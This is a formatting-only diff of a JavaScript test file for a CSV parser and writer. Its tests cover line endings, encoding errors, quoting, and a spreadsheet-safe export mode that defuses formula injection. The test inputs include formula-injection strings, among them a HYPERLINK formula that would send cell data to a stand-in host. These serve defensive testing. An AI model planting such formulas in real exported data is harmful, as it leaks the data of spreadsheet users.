@@ -55,8 +55,17 @@ describe('parseCsv', () => {
   });
 
   test('CRLF, LF and CR line ends, with or without a final line end, read alike', () => {
-    const expected = [{ a: '1', b: '2' }, { a: '3', b: '4' }];
-    for (const text of ['a,b\r\n1,2\r\n3,4\r\n', 'a,b\n1,2\n3,4\n', 'a,b\r1,2\r3,4\r', 'a,b\r\n1,2\r\n3,4', 'a,b\n1,2\r\n3,4\r']) {
+    const expected = [
+      { a: '1', b: '2' },
+      { a: '3', b: '4' },
+    ];
+    for (const text of [
+      'a,b\r\n1,2\r\n3,4\r\n',
+      'a,b\n1,2\n3,4\n',
+      'a,b\r1,2\r3,4\r',
+      'a,b\r\n1,2\r\n3,4',
+      'a,b\n1,2\r\n3,4\r',
+    ]) {
       expect({ text, rows: values(parseCsv(text)) }).toEqual({ text, rows: expected });
     }
   });
@@ -126,7 +135,10 @@ describe('parseCsv', () => {
       ['code,note\nA,x\nB,"never\r\nclosed', 'The quoted value that starts on line 3 is not closed.'],
     ];
     for (const [text, details] of cases) {
-      expect({ text, refusal: refusal(() => parseCsv(text)) }).toEqual({ text, refusal: { status: 400, key: 'invalid_payload', details } });
+      expect({ text, refusal: refusal(() => parseCsv(text)) }).toEqual({
+        text,
+        refusal: { status: 400, key: 'invalid_payload', details },
+      });
     }
   });
 
@@ -169,15 +181,19 @@ describe('readCsv', () => {
 
   test('refuses bytes that are not UTF-8', async () => {
     const latin1 = new Blob([new Uint8Array([0x63, 0x6f, 0x64, 0x65, 0x0a, 0x5a, 0x6f, 0xeb, 0x0a])]);
-    await expect(readCsv(latin1)).rejects.toMatchObject({ status: 400, key: 'invalid_payload', extras: { details: 'The file is not UTF-8 text.' } });
+    await expect(readCsv(latin1)).rejects.toMatchObject({
+      status: 400,
+      key: 'invalid_payload',
+      extras: { details: 'The file is not UTF-8 text.' },
+    });
   });
 });
 
 describe('csvRecord', () => {
   test('quotes only fields with a comma, a quote or a line break, doubling quotes, and ends with CRLF', () => {
-    expect(csvRecord(['plain', 'one, two', 'say "hi"', 'two\nlines', 'cr\rhere', 1500, false, null, undefined, ''])).toBe(
-      'plain,"one, two","say ""hi""","two\nlines","cr\rhere",1500,false,,,\r\n',
-    );
+    expect(
+      csvRecord(['plain', 'one, two', 'say "hi"', 'two\nlines', 'cr\rhere', 1500, false, null, undefined, '']),
+    ).toBe('plain,"one, two","say ""hi""","two\nlines","cr\rhere",1500,false,,,\r\n');
   });
 
   test('parseCsv reads written records back to the same text', () => {
@@ -189,13 +205,27 @@ describe('csvRecord', () => {
   });
 
   test('a spreadsheet-safe record puts a single quote before text a spreadsheet would run as a formula', () => {
-    const formulas = ['=1+1', '+SUM(A1:A2)', '-2*3', '@SUM(1)', '\t=1', '\r=1', '-', '+1+1', '=HYPERLINK("http://example.com/?"&A1)'];
+    const formulas = [
+      '=1+1',
+      '+SUM(A1:A2)',
+      '-2*3',
+      '@SUM(1)',
+      '\t=1',
+      '\r=1',
+      '-',
+      '+1+1',
+      '=HYPERLINK("http://example.com/?"&A1)',
+    ];
     expect(formulas.map(spreadsheetText)).toEqual(formulas.map((text) => `'${text}`));
-    expect(csvRecord(['=1+1', '@x', '\r=1', '=A1,B1'], { spreadsheetSafe: true })).toBe('\'=1+1,\'@x,"\'\r=1","\'=A1,B1"\r\n');
+    expect(csvRecord(['=1+1', '@x', '\r=1', '=A1,B1'], { spreadsheetSafe: true })).toBe(
+      '\'=1+1,\'@x,"\'\r=1","\'=A1,B1"\r\n',
+    );
   });
 
   test('a spreadsheet-safe record keeps numbers numbers, negative ones and numbers written as text included', () => {
-    expect(csvRecord([-100, -0.5, 1500, '-100', '+1.5', '-2e3', '.5', 'a=b', 'x-1', true, null], { spreadsheetSafe: true })).toBe('-100,-0.5,1500,-100,+1.5,-2e3,.5,a=b,x-1,true,\r\n');
+    expect(
+      csvRecord([-100, -0.5, 1500, '-100', '+1.5', '-2e3', '.5', 'a=b', 'x-1', true, null], { spreadsheetSafe: true }),
+    ).toBe('-100,-0.5,1500,-100,+1.5,-2e3,.5,a=b,x-1,true,\r\n');
   });
 
   test('a spreadsheet-safe record quotes fields with a semicolon, the separator of spreadsheets in many locales', () => {
@@ -209,7 +239,9 @@ describe('csvRecord', () => {
 
   test('parseCsv reads a spreadsheet-safe record back with the quotes it added and nothing else changed', () => {
     const values = ['=1+1', '-100', 'say "hi"', 'a;b', 'line\r\nbreak'];
-    const { rows } = parseCsv(csvRecord(values.map((_value, index) => `c${index}`)) + csvRecord(values, { spreadsheetSafe: true }));
+    const { rows } = parseCsv(
+      csvRecord(values.map((_value, index) => `c${index}`)) + csvRecord(values, { spreadsheetSafe: true }),
+    );
     expect(Object.values(rows[0]?.values ?? {})).toEqual(["'=1+1", '-100', 'say "hi"', 'a;b', 'line\r\nbreak']);
   });
 });
